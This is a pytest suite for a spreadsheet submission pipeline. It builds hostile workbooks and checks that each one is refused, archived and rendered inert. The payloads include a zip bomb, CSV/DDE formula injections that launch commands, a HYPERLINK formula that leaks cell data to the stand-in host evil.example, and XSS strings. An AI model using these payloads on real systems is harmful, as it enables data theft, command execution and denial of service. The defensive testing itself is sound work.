"""Every hostile or broken file ends as a version with status 无法读取 or 退回 and a zh-CN finding that
says where and why; its raw bytes are archived unchanged; nothing escapes the run as an exception;
and whatever the file contained is inert in the feedback HTML, JSON and annotated workbook.

Each case runs the real path: drop folder → pull (archive + version row) → parse → GX validation →
feedback package → record_outcome.
"""

from __future__ import annotations

import hashlib
import io
import itertools
import json
import time
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

import pytest
from fixtures.workdirs import isolate_workdir
from fixtures.workbooks import CITY, QUARTER, YEAR, clone, valid_submission, write_workbook
from openpyxl import load_workbook

from greenpark.submission import contract
from greenpark.intake.archive import pull_all
from greenpark.pipeline.processing import process_version
from greenpark.intake.warehouse import connect, pending_versions
from greenpark.registry import load_cities
from greenpark.settings import get_settings

NAME = f"{CITY}_{YEAR}Q{QUARTER}.xlsx"
PQ, EQ = contract.PARK_QUARTER, contract.ENTERPRISE_QUARTER
UNREADABLE, REJECTED = "无法读取", "退回"


# --- builders of hostile files -------------------------------------------------------------------
def _valid_xlsx(folder: Path) -> bytes:
    return write_workbook(folder / "valid.xlsx", valid_submission()).read_bytes()


def _xlsx_parts(sheet_xml: Callable[[], bytes] | bytes, *, sheet_name: str = PQ.name) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        b"</Types>",
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        b"</Relationships>",
        "xl/workbook.xml": (
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            f'<sheet name="{sheet_name}" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        b"</Relationships>",
        "xl/worksheets/sheet1.xml": sheet_xml if isinstance(sheet_xml, bytes) else sheet_xml(),
    }


def _write_zip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


_SHEET_HEAD = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_SHEET_TAIL = b"</sheetData></worksheet>"


def _write_streamed_xlsx(path: Path, sheet_chunks: Iterable[bytes]) -> Path:
    """A workbook whose sheet XML is written chunk by chunk, never whole in memory."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in _xlsx_parts(b"").items():
            if name != "xl/worksheets/sheet1.xml":
                zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for chunk in sheet_chunks:
                fh.write(chunk)
    return path


def million_rows(folder: Path) -> Path:
    """1,048,576 rows of one number each (about 45 MB of sheet XML, a few MB zipped)."""
    rows = (b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (r, r) for r in range(start, min(start + 8192, 1_048_577)))
            for start in range(1, 1_048_577, 8192))
    return _write_streamed_xlsx(folder / NAME, itertools.chain([_SHEET_HEAD], rows, [_SHEET_TAIL]))


def wide_columns(folder: Path) -> Path:
    """One header row 16,000 columns wide."""
    from openpyxl.utils import get_column_letter

    cells = b"".join(b'<c r="%s1" t="inlineStr"><is><t>x</t></is></c>' % get_column_letter(c).encode() for c in range(1, 16_001))
    path = folder / NAME
    _write_zip(path, _xlsx_parts(_SHEET_HEAD + b'<row r="1">' + cells + b"</row>" + _SHEET_TAIL))
    return path


def far_corner_cell(folder: Path) -> Path:
    """Two cells, A1 and XFD1048576: a 300-byte file whose dense grid would be 17 billion cells."""
    xml = (_SHEET_HEAD + b'<row r="1"><c r="A1"><v>1</v></c></row>'
           b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + _SHEET_TAIL)
    path = folder / NAME
    _write_zip(path, _xlsx_parts(xml))
    return path


def zip_bomb(folder: Path) -> Path:
    """A sheet declaring 2 GiB of zeros, deflated to about 2 MB."""
    block = b"\0" * (1 << 24)
    return _write_streamed_xlsx(folder / NAME, (block for _ in range(128)))


def huge_file(folder: Path) -> Path:
    """200 MB: a real workbook followed by padding (sparse on disk)."""
    path = folder / NAME
    path.write_bytes(_valid_xlsx(folder))
    with open(path, "r+b") as fh:
        fh.truncate(200 * 1024 * 1024)
    return path


def truncated(folder: Path) -> Path:
    data = _valid_xlsx(folder)
    path = folder / NAME
    path.write_bytes(data[: len(data) // 2])
    return path


def corrupt_entries(folder: Path) -> Path:
    """Central directory intact, compressed sheet data overwritten: fails CRC / inflate."""
    data = bytearray(_valid_xlsx(folder))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("xl/worksheets/sheet2.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 10
    data[start:start + 200] = bytes(range(200))
    path = folder / NAME
    path.write_bytes(bytes(data))
    return path


def text_named_xlsx(folder: Path) -> Path:
    path = folder / NAME
    path.write_text("园区代码,园区名称\n3309-01,舟山\n", encoding="gb18030")
    return path


def html_named_xls(folder: Path) -> Path:
    path = folder / f"{CITY}_{YEAR}Q{QUARTER}.xls"  # what some systems' "export to Excel" produces
    path.write_text("<html><body><table><tr><td><script>alert(1)</script></td></tr></table></body></html>", encoding="utf-8")
    return path


def empty_file(folder: Path) -> Path:
    path = folder / NAME
    path.write_bytes(b"")
    return path


def empty_sheets(folder: Path) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for sheet in contract.SHEETS:
        wb.create_sheet(sheet.name)
    path = folder / NAME
    wb.save(path)
    return path


def headers_only(folder: Path) -> Path:
    rows = clone(valid_submission())
    rows["park_quarter"] = []
    rows["enterprise_quarter"] = []
    return write_workbook(folder / NAME, rows)


def encrypted(folder: Path) -> Path:
    """An Office-encrypted workbook as Excel writes it: an OLE compound file holding
    EncryptionInfo and EncryptedPackage streams (header and directory laid out per MS-CFB)."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    header[0x18:0x1A] = (0x3E).to_bytes(2, "little")
    header[0x1A:0x1C] = (3).to_bytes(2, "little")
    header[0x1C:0x1E] = (0xFFFE).to_bytes(2, "little")
    header[0x1E:0x20] = (9).to_bytes(2, "little")
    header[0x20:0x22] = (6).to_bytes(2, "little")
    header[0x2C:0x30] = (1).to_bytes(4, "little")  # one FAT sector
    header[0x30:0x34] = (1).to_bytes(4, "little")  # directory starts at sector 1

    def entry(name: str, kind: int, size: int = 0) -> bytes:
        e = bytearray(128)
        raw = (name + "\0").encode("utf-16-le")
        e[0:len(raw)] = raw
        e[0x40:0x42] = len(raw).to_bytes(2, "little")
        e[0x42] = kind
        e[0x44:0x50] = b"\xff" * 12
        e[0x78:0x80] = size.to_bytes(8, "little")
        return bytes(e)

    fat = bytearray(b"\xff" * sector)
    fat[0:4] = (0xFFFFFFFD).to_bytes(4, "little")
    fat[4:8] = (0xFFFFFFFE).to_bytes(4, "little")
    directory = entry("Root Entry", 5) + entry("EncryptionInfo", 2, 200) + entry("EncryptedPackage", 2, 4096) + bytes(128)
    path = folder / NAME
    path.write_bytes(bytes(header) + bytes(fat) + directory + b"\x5a" * 4096)
    return path


def zip_password(folder: Path) -> Path:
    """A zip whose entries carry the 'encrypted' flag (traditional PKWARE encryption)."""
    data = bytearray(_valid_xlsx(folder))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        infos = zf.infolist()
    for info in infos:  # set bit 0 of the general-purpose flags in local and central headers
        data[info.header_offset + 6] |= 1
    cd = data.rfind(b"PK\x05\x06")
    offset = int.from_bytes(data[cd + 16:cd + 20], "little")
    while data[offset:offset + 4] == b"PK\x01\x02":
        data[offset + 8] |= 1
        n, m, k = (int.from_bytes(data[offset + i:offset + i + 2], "little") for i in (28, 30, 32))
        offset += 46 + n + m + k
    path = folder / NAME
    path.write_bytes(bytes(data))
    return path


def _cells(mutate: Callable[[dict], None], ext: str = "xlsx") -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        rows = clone(valid_submission())
        mutate(rows)
        return write_workbook(folder / f"{CITY}_{YEAR}Q{QUARTER}.{ext}", rows)
    return build


INJECTIONS = {
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "formula_dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "control": "浙江\x00\x07\x1b[31m某\x0b园\x7f区\u202e",
    "mojibake": "æµ\x99æ±\x9fç\x9c\x81 锟斤拷 烫烫烫",
    "emoji": "🏭🌿🔥" * 10,
    "long": "长" * 40_000,
}


def _payload_in_number_and_code(payload: str, ext: str = "xlsx") -> Callable[[Path], Path]:
    """The payload in a number cell (not_number) and a park code (unknown park): both become
    findings that quote the value back in the feedback files."""
    def mutate(rows):
        rows["park_quarter"][0]["gross_output"] = payload
        rows["park_quarter"][1]["park_code"] = payload
        rows["enterprise_quarter"][0]["enterprise_name"] = payload
    return _cells(mutate, ext)


@dataclass
class Bad:
    id: str
    build: Callable[[Path], Path]
    status: tuple[str, ...]
    says: tuple[str, ...]  # fragments the finding's message must contain
    max_seconds: float = 20.0


CASES = [
    Bad("text_under_xlsx_name", text_named_xlsx, (UNREADABLE,), ("不是工作簿", "纯文本或 CSV")),
    Bad("html_under_xls_name", html_named_xls, (UNREADABLE,), ("不是工作簿", "HTML")),
    Bad("empty_file", empty_file, (UNREADABLE,), ("空文件",)),
    Bad("truncated_xlsx", truncated, (UNREADABLE,), ("损坏或不完整",)),
    Bad("corrupt_entry_data", corrupt_entries, (UNREADABLE,), ("损坏或不完整",)),
    Bad("zip_bomb_2GiB", zip_bomb, (UNREADABLE,), ("压缩炸弹",), max_seconds=5),
    Bad("file_200MB", huge_file, (UNREADABLE,), ("超过上限", "100.0 MB")),
    Bad("million_rows", million_rows, (UNREADABLE,), ("超过上限 200,000 行", PQ.name)),
    Bad("columns_16000", wide_columns, (UNREADABLE,), ("超过上限 1,000 列",)),
    Bad("cell_at_XFD1048576", far_corner_cell, (UNREADABLE,), ("第 1,048,576 行",), max_seconds=5),
    Bad("empty_sheets", empty_sheets, (UNREADABLE,), ("找不到表头",)),
    Bad("headers_without_rows", headers_only, (REJECTED,), ("没有数据行",)),
    Bad("password_ole_encrypted", encrypted, (UNREADABLE,), ("文件已加密,请去除密码后重新报送",)),
    Bad("password_zip_flag", zip_password, (UNREADABLE,), ("文件已加密,请去除密码后重新报送",)),
    # openpyxl stores a leading "=" as a formula without a cached value: the reader sees an empty
    # cell (formulas give their cached values), so these are "未填写"; XLSX cannot hold control
    # characters at all, so that payload travels in an .xls (BIFF stores them verbatim).
    *(Bad(f"injection_{k}", _payload_in_number_and_code(v, "xls" if k == "control" else "xlsx"), (REJECTED,),
          ("未填写",) if v.startswith("=") else ("不是数字",))
      for k, v in INJECTIONS.items()),
    # The same formulas stored as text (an .xls label cell): the value is quoted back in findings and
    # the .xls is copied cell by cell into the annotated workbook; neither may turn into a formula.
    *(Bad(f"injection_text_{k}_xls", _payload_in_number_and_code(INJECTIONS[k], "xls"), (REJECTED,), ("不是数字",))
      for k in ("formula_hyperlink", "formula_dde")),
]

CASES = [pytest.param(c, id=c.id) for c in CASES]


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("bad_inputs")
    with pytest.MonkeyPatch.context() as mp:
        isolate_workdir(mp, workdir, today="2025-08-10")
        from fixtures.validation import shared_validator

        settings = get_settings()
        yield settings, shared_validator()


def _run_one(settings, validator, path: Path) -> tuple[dict, list[dict], Path]:
    """Drop → pull → process, exactly as the intake asset does; returns version, findings, feedback dir."""
    city = next(c for c in load_cities(settings) if c.code == CITY)
    with connect(settings.warehouse_path) as con:
        (pulled,) = [p for p in pull_all(con, settings.archive_dir, [city]) if p.filename == path.name]
        version = pending_versions(con).set_index("version_id").loc[pulled.version_id]
        version["version_id"] = pulled.version_id
        process_version(con, validator, settings, version)
        row = con.execute("SELECT * FROM submission_versions WHERE version_id = ?", [pulled.version_id]).df()
        findings = con.execute("SELECT * FROM validation_findings WHERE version_id = ?", [pulled.version_id]).df()
        loaded = sum(con.execute(f"SELECT count(*) FROM {s.raw_table} WHERE version_id = ?",
                                 [pulled.version_id]).fetchall()[0][0] for s in contract.SHEETS)
    rec = row.iloc[0].to_dict()
    rec["loaded_rows"] = loaded
    return rec, findings.to_dict("records"), settings.outbox_dir / CITY


@pytest.mark.parametrize("case", CASES)
def test_bad_input_ends_as_a_refused_version_with_a_clear_finding(env, case: Bad, tmp_path: Path):
    settings, validator = env
    drop = settings.inbox_dir / CITY
    if drop.exists():
        for old in drop.iterdir():
            old.unlink()
    built = case.build(tmp_path)
    drop.mkdir(parents=True, exist_ok=True)
    target = drop / built.name
    built.replace(target)
    sha = hashlib.sha256(target.read_bytes()).hexdigest()

    started = time.perf_counter()
    version, findings, outbox = _run_one(settings, validator, target)
    seconds = time.perf_counter() - started

    print(f"{case.id}: {version['status']} in {seconds:.1f}s: {[f['message_zh'][:120] for f in findings][:3]}")
    assert version["status"] in case.status
    assert version["loaded_rows"] == 0 and not version["in_force"]
    messages = " ".join(f["message_zh"] for f in findings if f["severity"] in ("fatal", "error"))
    for fragment in case.says:
        assert fragment in messages, (fragment, messages[:500])
    assert seconds < case.max_seconds
    # The raw bytes are archived unchanged, whatever they were.
    archived = Path(version["archive_path"])
    assert archived.stat().st_size == target.stat().st_size and version["sha256"] == sha
    assert hashlib.sha256(archived.read_bytes()).hexdigest() == sha
    _assert_feedback_is_inert(outbox, version["version_id"])


def _assert_feedback_is_inert(outbox: Path, version_id: str) -> None:
    """HTML escapes markup, JSON is valid, the annotated workbook's summary holds no formulas."""
    html = (outbox / f"{version_id}.html").read_text(encoding="utf-8")
    assert "<script" not in html and "<img" not in html and "onerror=alert" not in html.replace("onerror=alert(1)&gt;", "")
    payload = json.loads((outbox / f"{version_id}.json").read_text(encoding="utf-8"))
    assert payload["version"]["version_id"] == version_id
    copy = outbox / f"{version_id}_标注.xlsx"
    # A copy exists exactly when a finding points at a cell; file-level findings alone make none.
    assert copy.exists() == any(f["sheet"] and f["excel_row"] for f in payload["findings"])
    if not copy.exists():
        return
    wb = load_workbook(copy)
    # Our own sheets (the summary; every sheet of a cell-by-cell copy of an .xls/.ods) hold no formulas.
    sheets = wb.worksheets if payload["version"]["filename"].endswith((".xls", ".ods")) else wb.worksheets[:1]
    for ws in sheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula written into feedback {ws.title}!{cell.coordinate}: {cell.value!r}"


GUARDED = ["zip_bomb_2GiB", "million_rows", "cell_at_XFD1048576", "columns_16000", "file_200MB", "password_ole_encrypted"]


@pytest.mark.parametrize("case_id", GUARDED)
def test_hostile_containers_are_refused_before_anything_is_inflated(case_id: str, tmp_path: Path):
    """parse_workbook alone (what `greenpark validate` and the pipeline call): refused in bounded time."""
    from greenpark.intake.workbook import parse_workbook

    case = next(p.values[0] for p in CASES if p.values[0].id == case_id)
    path = case.build(tmp_path)
    started = time.perf_counter()
    parsed = parse_workbook(path)
    seconds = time.perf_counter() - started
    assert [f.severity for f in parsed.findings if f.rule_id == "file.unreadable"] == ["fatal"]
    assert not parsed.frames
    assert seconds < 3.0, seconds
